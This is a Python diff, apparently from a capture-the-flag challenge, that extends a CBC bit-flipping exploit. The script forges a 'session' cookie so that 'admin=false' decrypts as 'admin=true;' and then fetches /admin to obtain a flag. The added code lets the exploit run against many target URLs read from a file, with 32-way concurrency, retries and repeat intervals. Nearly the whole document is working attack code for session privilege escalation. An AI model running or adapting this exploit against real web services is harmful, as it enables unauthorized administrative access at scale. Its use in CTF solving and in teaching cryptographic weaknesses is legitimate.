@@ -1,16 +1,48 @@
 from __future__ import annotations
 
+import argparse
 import base64
+import http.client
+import json
 import sys
+import time
+from concurrent.futures import ThreadPoolExecutor, as_completed
 from http.cookiejar import CookieJar
-from urllib.parse import urlencode
+from http.cookies import SimpleCookie
+from typing import Any
+from urllib.parse import urlencode, urlsplit
 from urllib.request import HTTPCookieProcessor, Request, build_opener, urlopen
 
 BLOCK = 16
 SERVER_ADDR = "http://localhost:8000"
 
+# открытый текст сессии: user=<name>;admin=false;expires=...
+PREFIX = b"user="
+MARKER = b";admin="
+ORIG = b"false"
+WANT = b"true;"
+NAME_MIN, NAME_MAX = 3, 50
+
+
+def pick_name_len(block: int = BLOCK) -> int:
+    """
+    Подбираем длину имени так, чтобы 'false' целиком лежал в одном блоке,
+    а ';admin=' начинался не раньше этого блока (предыдущий блок
+    превращается в мусор после флипа).
+    """
+    for n in range(NAME_MIN, NAME_MAX + 1):
+        start = len(PREFIX) + n
+        offset_false = start + len(MARKER)
+        block_idx, pos = divmod(offset_false, block)
+        if pos + len(WANT) <= block and start >= block_idx * block:
+            return n
+    raise ValueError("no usable username length")
+
 
 def forge_cookie(cookie_b64: str, name_len: int) -> str:
+    # токен вида "kid.base64(iv+ct)", kid оставляем как есть;
+    # CookieJar отдаёт значение в кавычках, если в нём есть '/', '+' или '='
+    kid, sep, cookie_b64 = cookie_b64.strip('"').rpartition(".")
     raw = bytearray(base64.b64decode(cookie_b64))
     iv, ct = raw[:BLOCK], raw[BLOCK:]
     blocks = [bytearray(ct[i : i + BLOCK]) for i in range(0, len(ct), BLOCK)]
@@ -19,8 +51,8 @@ def forge_cookie(cookie_b64: str, name_len: int) -> str:
     offset_false = 5 + name_len + 7  # "user=" + name + ";admin="
     block_idx, pos = divmod(offset_false, BLOCK)
 
-    orig = b"false"
-    want = b"true;"
+    orig = ORIG
+    want = WANT
 
     # гарантируем, что меняем байты в пределах одного блока
     if pos + len(want) > BLOCK:
@@ -44,14 +76,14 @@ def forge_cookie(cookie_b64: str, name_len: int) -> str:
         blocks[block_idx - 1] = prev
         forged = bytes(iv) + b"".join(bytes(b) for b in blocks)
 
-    return base64.b64encode(forged).decode()
+    return kid + sep + base64.b64encode(forged).decode()
 
 
-def register_and_get_session(name: str) -> str | None:
+def register_and_get_session(name: str, server_addr: str = SERVER_ADDR) -> str | None:
     cj = CookieJar()
     opener = build_opener(HTTPCookieProcessor(cj))
     data = urlencode({"name": name}).encode()
-    opener.open(f"{SERVER_ADDR}/register", data=data)
+    opener.open(f"{server_addr}/register", data=data)
 
     for cookie in cj:
         if cookie.name == "session":
@@ -59,9 +91,9 @@ def register_and_get_session(name: str) -> str | None:
     return None
 
 
-def fetch_admin(forged_token: str) -> str:
+def fetch_admin(forged_token: str, server_addr: str = SERVER_ADDR) -> str:
     req = Request(
-        f"{SERVER_ADDR}/admin",
+        f"{server_addr}/admin",
         headers={"Cookie": f"session={forged_token}"},
     )
     with urlopen(req) as resp:
@@ -69,19 +101,213 @@ def fetch_admin(forged_token: str) -> str:
     return body.decode("utf-8", errors="ignore")
 
 
+class KeepAliveClient:
+    """Одно keep-alive соединение на цель, переподключается при обрыве."""
+
+    def __init__(self, base_url: str, timeout: float) -> None:
+        parts = urlsplit(base_url)
+        conn_cls = (
+            http.client.HTTPSConnection
+            if parts.scheme == "https"
+            else http.client.HTTPConnection
+        )
+        self.base_path = parts.path.rstrip("/")
+        self.conn = conn_cls(parts.netloc, timeout=timeout)
+
+    def request(
+        self,
+        method: str,
+        path: str,
+        body: bytes | None = None,
+        headers: dict[str, str] | None = None,
+    ) -> tuple[int, http.client.HTTPMessage, bytes]:
+        try:
+            return self._send(method, path, body, headers)
+        except (
+            http.client.RemoteDisconnected,
+            ConnectionResetError,
+            BrokenPipeError,
+        ):
+            # сервер закрыл простаивающее соединение — переподключаемся один раз
+            self.conn.close()
+            return self._send(method, path, body, headers)
+
+    def _send(
+        self,
+        method: str,
+        path: str,
+        body: bytes | None,
+        headers: dict[str, str] | None,
+    ) -> tuple[int, http.client.HTTPMessage, bytes]:
+        self.conn.request(method, self.base_path + path, body, headers or {})
+        resp = self.conn.getresponse()
+        return resp.status, resp.headers, resp.read()
+
+    def close(self) -> None:
+        self.conn.close()
+
+
+def _session_from_headers(headers: http.client.HTTPMessage) -> str | None:
+    for value in headers.get_all("Set-Cookie") or []:
+        jar = SimpleCookie()
+        jar.load(value)
+        if "session" in jar:
+            return jar["session"].value
+    return None
+
+
+def _ms(seconds: float) -> float:
+    return round(seconds * 1000, 1)
+
+
+def check_target(
+    target: str,
+    timeout: float,
+    retries: int,
+    client: KeepAliveClient | None = None,
+) -> dict[str, Any]:
+    """
+    register -> forge -> /admin для одной цели, с повторами.
+
+    Переданный client переживает вызов (соединение живёт между прогонами
+    --interval); без него создаётся временный и закрывается в конце.
+    """
+    name = "A" * pick_name_len()
+    result: dict[str, Any] = {"target": target, "ok": False}
+    owned = client is None
+    if client is None:
+        client = KeepAliveClient(target, timeout)
+    started = time.perf_counter()
+    try:
+        for attempt in range(1, retries + 1):
+            result["attempts"] = attempt
+            latency: dict[str, float] = {}
+            try:
+                t0 = time.perf_counter()
+                status, headers, _ = client.request(
+                    "POST",
+                    "/register",
+                    urlencode({"name": name}).encode(),
+                    {"Content-Type": "application/x-www-form-urlencoded"},
+                )
+                latency["register_ms"] = _ms(time.perf_counter() - t0)
+                session = _session_from_headers(headers)
+                if not session:
+                    raise RuntimeError(f"no session cookie (HTTP {status})")
+
+                forged = forge_cookie(session, len(name))
+
+                t0 = time.perf_counter()
+                status, _, body = client.request(
+                    "GET", "/admin", headers={"Cookie": f"session={forged}"}
+                )
+                latency["admin_ms"] = _ms(time.perf_counter() - t0)
+                result["latency"] = latency
+                result["status"] = status
+                if status == 200:
+                    result["ok"] = True
+                    result["flag"] = body.decode("utf-8", errors="ignore").strip()
+                    result.pop("error", None)
+                    break
+                result["error"] = f"/admin returned HTTP {status}"
+            except Exception as e:
+                client.close()
+                result["latency"] = latency
+                result["error"] = f"{type(e).__name__}: {e}"
+            if attempt < retries:
+                time.sleep(0.5 * attempt)
+    finally:
+        if owned:
+            client.close()
+    result["total_ms"] = _ms(time.perf_counter() - started)
+    return result
+
+
+def run_checker(
+    targets: list[str],
+    concurrency: int,
+    timeout: float,
+    retries: int,
+    clients: dict[str, KeepAliveClient] | None = None,
+) -> bool:
+    all_ok = True
+    clients = clients or {}
+    with ThreadPoolExecutor(max_workers=concurrency) as pool:
+        futures = [
+            pool.submit(check_target, target, timeout, retries, clients.get(target))
+            for target in targets
+        ]
+        for future in as_completed(futures):
+            result = future.result()
+            all_ok = all_ok and result["ok"]
+            print(json.dumps(result, ensure_ascii=False), flush=True)
+    return all_ok
+
+
+def _load_targets(args: argparse.Namespace) -> list[str]:
+    targets = list(args.targets)
+    if args.targets_file:
+        with open(args.targets_file) as f:
+            targets += [
+                line.strip() for line in f if line.strip() and not line.startswith("#")
+            ]
+    return [t.rstrip("/") for t in targets]
+
+
 def main() -> int:
-    # выбираем длину имени так, чтобы 'false' попало в блок (pos <= 11)
-    name = "A" * 15  # 15 даёт pos = (12+15)%16 = 11
+    parser = argparse.ArgumentParser(description="cookie: CBC bit-flip solver/checker")
+    parser.add_argument(
+        "targets", nargs="*", help=f"base URLs (default: {SERVER_ADDR})"
+    )
+    parser.add_argument("-f", "--targets-file", help="file with one URL per line")
+    parser.add_argument(
+        "--check", action="store_true", help="checker mode: JSON result per target"
+    )
+    parser.add_argument("--concurrency", type=int, default=32)
+    parser.add_argument("--timeout", type=float, default=5.0)
+    parser.add_argument("--retries", type=int, default=3)
+    parser.add_argument(
+        "--interval",
+        type=float,
+        default=0.0,
+        help="repeat checks every N seconds (checker mode, 0 = once)",
+    )
+    args = parser.parse_args()
+    targets = _load_targets(args) or [SERVER_ADDR]
+
+    if args.check:
+        # одно keep-alive соединение на цель на всё время работы
+        clients = {t: KeepAliveClient(t, args.timeout) for t in dict.fromkeys(targets)}
+        try:
+            while True:
+                all_ok = run_checker(
+                    targets, args.concurrency, args.timeout, args.retries, clients
+                )
+                if args.interval <= 0:
+                    return 0 if all_ok else 1
+                time.sleep(args.interval)
+        finally:
+            for client in clients.values():
+                client.close()
 
-    session = register_and_get_session(name)
-    if not session:
-        print("failed to obtain session cookie", file=sys.stderr)
-        return 1
+    # выбираем длину имени так, чтобы 'false' попало в блок (pos <= 11)
+    name = "A" * pick_name_len()
 
-    forged = forge_cookie(session, len(name))
-    result = fetch_admin(forged)
-    print(result)
-    return 0
+    status = 0
+    for server_addr in targets:
+        try:
+            session = register_and_get_session(name, server_addr)
+            if not session:
+                raise RuntimeError("failed to obtain session cookie")
+            forged = forge_cookie(session, len(name))
+            result = fetch_admin(forged, server_addr)
+        except Exception as e:
+            # одна упавшая цель не мешает остальным
+            print(f"{server_addr}: {e}", file=sys.stderr)
+            status = 1
+            continue
+        print(f"{server_addr}: {result}" if len(targets) > 1 else result)
+    return status
 
 
 if __name__ == "__main__":